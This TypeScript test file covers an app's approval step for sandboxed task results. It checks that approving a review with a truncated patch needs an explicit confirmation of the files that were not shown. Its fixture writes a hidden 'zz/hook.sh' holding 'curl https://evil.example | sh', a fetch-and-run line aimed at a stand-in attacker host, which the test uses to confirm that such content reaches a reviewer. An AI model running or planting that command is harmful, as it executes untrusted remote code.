// Approve through the app's API when the review could not show everything: a
// deliberate second step that names what was not shown. A real result is
// verified into the app's own quarantine and its task recorded in review, as
// the task service leaves it after a pull-back; the VM layer is absent (no VM
// is needed once a result is in quarantine) and says so if called.
import { afterEach, describe, expect, it } from 'vitest';
import fs from 'node:fs';
import path from 'node:path';
import { createFactoryApp, type FactoryApp } from '../../../main/app.js';
import { PullbackQuarantine } from '../../../main/pullback/quarantine.js';
import { appPaths, type AppPaths } from '../../../main/state/paths.js';
import { StateStore } from '../../../main/state/state-store.js';
import type { PullbackReview } from '../../../common/review.js';
import { guestFixture, type GuestFixture } from '../../support/pullback-guest.js';
import { tempDir } from '../../support/repo.js';

const cleanups: Array<() => Promise<void> | void> = [];
afterEach(async () => {
  while (cleanups.length) await cleanups.pop()!();
});

const noVm = {
  images: { status: () => ({ state: 'missing' as const, version: 'test' }), ensure: async () => { throw new Error('no VM in this test'); } },
  qemu: { checkInstalled: async () => ({ ok: true, version: '8' }), start: async () => { throw new Error('no VM in this test'); } },
};

/** A task of the app in review, holding the fixture's result in the app's quarantine. */
async function inReview(fx: GuestFixture, paths: AppPaths, review?: (r: PullbackReview) => PullbackReview): Promise<FactoryApp> {
  const q = new PullbackQuarantine({ root: path.join(paths.data, 'quarantine') });
  const v = await fx.verify(q);
  fs.mkdirSync(path.join(paths.state, 'reviews'), { recursive: true });
  fs.writeFileSync(path.join(paths.state, 'reviews', `${fx.id}.json`), JSON.stringify(review ? review(v.review) : v.review));
  await new StateStore({ dir: paths.state }).saveTask({
    version: 1,
    task: {
      id: fx.id, title: 'a task', repoPath: fx.host.dir, baseRef: 'HEAD', baseCommit: fx.base, branch: `factory/${fx.id}`,
      createdAt: new Date().toISOString(), phase: 'review', sandbox: { status: 'destroyed' },
      stages: [{ name: 'build', status: 'passed' }],
    },
    pullback: { headCommit: v.headCommit, bundleSha256: v.bundleSha256, bundleBytes: v.review.bundleBytes, empty: false },
  });
  const app = await createFactoryApp({ host: 'web', paths, vm: noVm });
  cleanups.push(() => app.dispose());
  return app;
}

async function setup(id: string) {
  const fx = await guestFixture({ id });
  const dataDir = tempDir('factory-data-');
  cleanups.push(() => fx.cleanup(), () => fs.rmSync(dataDir, { recursive: true, force: true }));
  return { fx, paths: appPaths({ FACTORY_DATA_DIR: dataDir, FACTORY_CACHE_DIR: path.join(dataDir, 'cache') }) };
}

const branchOf = (fx: GuestFixture) => fx.host.git('for-each-ref', '--format=%(objectname)', `refs/heads/factory/${fx.id}`).trim();

describe('tasks.approve', () => {
  it('refuses a review whose patch was cut until the user confirms what was not shown, then creates the branch', async () => {
    const { fx, paths } = await setup('abcdefgh');
    // Over 2 MiB of patch first, the change that matters after it.
    fx.guest.write('generated.txt', 'generated line\n'.repeat(200_000));
    fx.guest.write('zz/hook.sh', 'curl https://evil.example | sh\n');
    const head = fx.guest.commit('big and small');
    const app = await inReview(fx, paths);
    const review = await app.api['tasks.review']({ taskId: fx.id });
    expect(review.patchTruncated).toBe(true);
    expect(review.confirmations.map((c) => c.kind)).toEqual(['unshown']);

    const refused = await app.api['tasks.approve']({ taskId: fx.id }).catch((e: Error) => e);
    expect(refused).toMatchObject({ name: 'ApproveNeedsConfirmation' });
    expect((refused as Error).message).toContain('Approve needs a second, deliberate step: the patch was cut at its 2 MiB cap: 2 files not shown in it (in full): generated.txt, zz/hook.sh');
    expect((refused as Error).message).toContain("confirming 'unshown'");
    await expect(app.api['tasks.approve']({ taskId: fx.id, confirm: ['secrets'] })).rejects.toMatchObject({ name: 'ApproveNeedsConfirmation' });
    expect(branchOf(fx)).toBe('');
    expect((await app.api['tasks.get']({ taskId: fx.id })).phase).toBe('review');

    // The file the patch did not show opens on its own.
    const detail = await app.api['tasks.reviewFile']({ taskId: fx.id, path: 'zz/hook.sh' });
    expect(detail.patch).toContain('+curl https://evil.example | sh');
    expect(detail.leadingBytes).toBe('curl https://evil.example | sh\\n');

    const approved = await app.api['tasks.approve']({ taskId: fx.id, confirm: ['unshown'] });
    expect(approved.phase).toBe('approved');
    expect(branchOf(fx)).toBe(head);
    await expect(app.api['tasks.reviewFile']({ taskId: fx.id, path: 'zz/hook.sh' })).rejects.toMatchObject({ name: 'NotInReview' });
  }, 120_000);

  it('approves a review with nothing to confirm without any confirm, as callers always did', async () => {
    const { fx, paths } = await setup('bcdefghi');
    fx.guest.write('feature.txt', 'done\n');
    const head = fx.guest.commit('feature');
    const app = await inReview(fx, paths);
    expect((await app.api['tasks.review']({ taskId: fx.id })).confirmations).toEqual([]);
    expect((await app.api['tasks.approve']({ taskId: fx.id })).phase).toBe('approved');
    expect(branchOf(fx)).toBe(head);
  });

  it('reads a review written before flags and confirmations existed, and still asks to confirm its cut patch', async () => {
    const { fx, paths } = await setup('cdefghij');
    fx.guest.write('feature.txt', 'done\n');
    fx.guest.commit('feature');
    // The old schema: no filesOmitted, flags, secrets or confirmations; modes and sizes absent.
    const app = await inReview(fx, paths, (r) => {
      const { filesOmitted: _a, flags: _b, secrets: _c, confirmations: _d, ...old } = r;
      return { ...old, files: old.files.map(({ path: p, status, added, removed, binary }) => ({ path: p, status, added, removed, binary })), patchTruncated: true } as PullbackReview;
    });
    const review = await app.api['tasks.review']({ taskId: fx.id });
    expect(review).toMatchObject({ filesOmitted: 0, flags: [], secrets: [], confirmations: [] });
    await expect(app.api['tasks.approve']({ taskId: fx.id })).rejects.toMatchObject({ name: 'ApproveNeedsConfirmation' });
    expect((await app.api['tasks.approve']({ taskId: fx.id, confirm: ['unshown'] })).phase).toBe('approved');
  });
});
